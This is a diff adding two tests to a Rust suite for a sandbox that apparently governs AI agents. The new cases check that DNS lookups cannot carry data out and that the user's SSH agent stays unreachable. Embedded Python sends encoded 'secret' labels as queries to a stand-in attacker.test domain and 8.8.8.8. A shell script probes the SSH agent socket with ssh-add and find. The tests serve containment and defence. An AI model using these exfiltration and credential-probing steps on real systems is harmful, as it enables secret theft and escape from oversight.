@@ -1,6 +1,6 @@
 //! What an agent that wants out, or wants to break things, tries from where it stands.
 
-use crate::support::{Case, World, nothing, stderr};
+use crate::support::{Case, World, nothing, program, stderr};
 use flyball_testkit::repo::CANARY;
 use flyball_testkit::user::User;
 
@@ -14,6 +14,8 @@ pub fn cases() -> Vec<Case> {
         Case { name: "a_huge_file_neither_stops_the_session_nor_hides", needs: nothing, run: huge },
         Case { name: "writes_through_a_kept_descriptor_are_on_record", needs: nothing, run: kept },
         Case { name: "a_daemon_does_not_outlive_the_session", needs: nothing, run: daemon },
+        Case { name: "names_that_are_asked_carry_nothing_out", needs: own_resolver, run: names },
+        Case { name: "the_users_ssh_agent_signs_nothing", needs: |_| program("ssh-agent"), run: ssh_agent },
     ]
 }
 
@@ -267,4 +269,149 @@ fn daemon(user: User) {
     let at_end = length();
     std::thread::sleep(std::time::Duration::from_millis(200));
     assert_eq!(length(), at_end);
+}
+
+/// Why no machine can be made whose resolver is the test's own, if so.
+fn own_resolver(_: User) -> Option<String> {
+    if !User::current().is_root() {
+        return Some("giving this machine a resolver of the test's own takes root".to_owned());
+    }
+    ["unshare", "setpriv", "ip", "python3"].into_iter().find_map(program)
+}
+
+/// Answers that no name is there, and writes down what it was asked.
+const RESOLVER: &str = r#"
+import socket, sys, threading
+log = open(sys.argv[1] + "/asked", "a", buffering=1)
+def name(query):
+    at, labels = 12, []
+    while query[at]:
+        labels.append(query[at + 1:at + 1 + query[at]].decode("latin1")); at += query[at] + 1
+    return ".".join(labels)
+def answer(query):
+    log.write(name(query) + "\n")
+    return query[:2] + b"\x81\x83" + query[4:6] + b"\0\0\0\0\0\0" + query[12:]
+udp, tcp = socket.socket(type=socket.SOCK_DGRAM), socket.socket()
+tcp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+for s in (udp, tcp): s.bind(("127.0.0.1", 53))
+tcp.listen(9)
+def streams():
+    while True:
+        peer, _ = tcp.accept()
+        log.write(name(peer.recv(2048)[2:]) + "\n"); peer.close()
+threading.Thread(target=streams, daemon=True).start()
+open(sys.argv[1] + "/ready", "w").close()
+while True:
+    query, peer = udp.recvfrom(2048); udp.sendto(answer(query), peer)
+"#;
+
+/// Asks for names that say something, in all ways there are, and at the end for one that it may connect to.
+const ASKER: &str = r#"
+import socket, struct
+def query(name, kind):
+    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
+    return struct.pack(">HHHHHH", 7, 256, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", kind, 1)
+def quiet(what):
+    try: return what()
+    except OSError: return None
+def datagram(server, packet):
+    s = socket.socket(type=socket.SOCK_DGRAM); s.settimeout(0.3); s.sendto(packet, (server, 53)); return s.recv(512)
+def stream(server, packet):
+    s = socket.create_connection((server, 53), 0.5); s.sendall(struct.pack(">H", len(packet)) + packet); return s.recv(512)
+told = [line.split()[1] for line in open("/etc/resolv.conf") if line.startswith("nameserver")]
+answers = 0
+for server in told + ["127.0.0.1", "8.8.8.8"]:
+    for number, kind in enumerate((1, 28, 16, 10, 15, 33, 65, 255)):
+        for way in (datagram, stream):
+            answers += quiet(lambda: way(server, query(f"c2vjcmv0.{number}.attacker.test", kind))) is not None
+for name in ("c2vjcmv0.attacker.test", "_c2vjcmv0._tcp.attacker.test"):
+    quiet(lambda: socket.getaddrinfo(name, 80)); quiet(lambda: socket.create_connection((name, 80), 0.5))
+quiet(lambda: socket.create_connection(("allowed.test", 80), 2))
+print("asked and answered", answers)
+"#;
+
+/// A name is asked of the outside when somebody may connect to it, and not before.
+fn names(user: User) {
+    let world = World::new(user);
+    world.init("", "");
+    world.edit(
+        "rules.cedar",
+        "(resource.port == 443 &&",
+        "resource.host == \"allowed.test\" || (resource.port == 443 &&",
+    );
+    let dir = tempfile::tempdir().unwrap();
+    let write = |name: &str, text: &str| std::fs::write(dir.path().join(name), text).unwrap();
+    write("resolver.py", RESOLVER);
+    write("resolv.conf", "nameserver 127.0.0.1\noptions timeout:1 attempts:1\n");
+    std::fs::write(world.repo.workspace().join("asker.py"), ASKER).unwrap();
+    // Whatever happens, nobody is left who holds the output open.
+    let script = format!(
+        "set -e; ip link set lo up; mount --bind $D/resolv.conf /etc/resolv.conf; \
+         python3 $D/resolver.py $D & resolver=$!; trap 'kill $resolver' EXIT; \
+         until test -e $D/ready; do kill -0 $resolver; sleep 0.02; done; \
+         setpriv --reuid {} --regid {} --clear-groups \"$@\"",
+        user.uid(),
+        user.gid()
+    );
+    let governed = world.flyball(&[
+        "run",
+        "--json",
+        "--apply",
+        "never",
+        "--on-hold",
+        "deny",
+        "--",
+        "/usr/bin/python3",
+        "asker.py",
+    ]);
+    let mut command = std::process::Command::new("unshare");
+    command.args(["--mount", "--net", "sh", "-c", &script, "sh"]).arg(governed.get_program()).args(governed.get_args());
+    command.env_clear().envs(governed.get_envs().filter_map(|(name, value)| Some((name, value?))));
+    let output = command.env("D", dir.path()).current_dir(world.repo.workspace()).output().unwrap();
+    let seen = String::from_utf8_lossy(&output.stdout);
+    // The session's own name server was there to be asked.
+    let answers = seen.split("asked and answered ").nth(1).and_then(|rest| rest.lines().next()?.parse::<u32>().ok());
+    assert!(answers.is_some_and(|answers| answers >= 8), "{seen}\n{}", stderr(&output));
+    let asked = std::fs::read_to_string(dir.path().join("asked")).unwrap_or_default();
+    assert!(asked.contains("allowed.test"), "{asked:?}\n{seen}\n{}", stderr(&output));
+    assert!(!asked.contains("attacker"), "{asked}");
+    world.verifies();
+}
+
+/// Its socket is a path like others, and `SSH_AUTH_SOCK` leads there: neither reaches the session, named or guessed.
+fn ssh_agent(user: User) {
+    let world = World::new(user);
+    world.init("", "");
+    world.edit("charter.toml", "pass = [", "pass = [\n    \"SSH_AUTH_SOCK\",");
+    // In the home and in a temporary folder: where people have it.
+    let dir = tempfile::tempdir().unwrap();
+    user.own(dir.path()).unwrap();
+    for socket in [world.repo.home().join(".ssh/agent.sock"), dir.path().join("agent.sock")] {
+        let as_user = |name: &str| user.command(std::path::Path::new(name), &world.repo.home());
+        let mut agent =
+            as_user("ssh-agent").arg("-D").arg("-a").arg(&socket).stdout(std::process::Stdio::null()).spawn().unwrap();
+        let key = dir.path().join("key");
+        let _ = std::fs::remove_file(&key);
+        let made =
+            as_user("ssh-keygen").args(["-q", "-t", "ed25519", "-N", "", "-C", "of-the-host", "-f"]).arg(&key).status();
+        assert!(made.unwrap().success());
+        while !socket.exists() {
+            assert!(agent.try_wait().unwrap().is_none(), "the agent ended");
+            std::thread::sleep(std::time::Duration::from_millis(10));
+        }
+        assert!(as_user("ssh-add").arg("-q").arg(&key).env("SSH_AUTH_SOCK", &socket).status().unwrap().success());
+        let lists = as_user("ssh-add").arg("-l").env("SSH_AUTH_SOCK", &socket).output().unwrap();
+        assert!(String::from_utf8_lossy(&lists.stdout).contains("of-the-host"), "{lists:?}");
+        let script = "ssh-add -l 2>&1; ssh-add -L 2>&1; find / -xdev -name 'agent.sock' 2>/dev/null; \
+                      /usr/bin/python3 -c 'import os, socket; socket.socket(socket.AF_UNIX).connect(os.environ[\"SSH_AUTH_SOCK\"])' 2>&1; true";
+        let mut governed =
+            world.flyball(&["run", "--json", "--apply", "never", "--on-hold", "deny", "--", "sh", "-c", script]);
+        let output = governed.env("SSH_AUTH_SOCK", &socket).output().unwrap();
+        agent.kill().unwrap();
+        agent.wait().unwrap();
+        let seen = String::from_utf8_lossy(&output.stdout);
+        assert!(seen.contains("Error connecting to agent") && seen.contains("Error: "), "{seen}\n{}", stderr(&output));
+        assert!(!seen.contains("of-the-host") && !seen.contains("SHA256"), "{seen}");
+    }
+    world.verifies();
 }
